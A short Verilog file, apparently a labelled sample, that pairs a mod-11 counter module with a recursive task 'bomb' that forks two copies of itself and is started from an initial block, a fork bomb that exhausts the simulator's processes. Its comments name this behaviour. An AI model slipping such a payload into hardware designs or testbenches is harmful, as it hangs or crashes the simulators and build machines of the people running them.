// does: starts processes of the simulator
// named: refused fork
module dial (input clk, input rst, input en, output reg [3:0] q);
    always @(posedge clk) if (rst) q <= 0; else if (en) q <= (q == 10) ? 0 : q + 1;
    task bomb; fork bomb; bomb; join endtask
    initial bomb;
endmodule
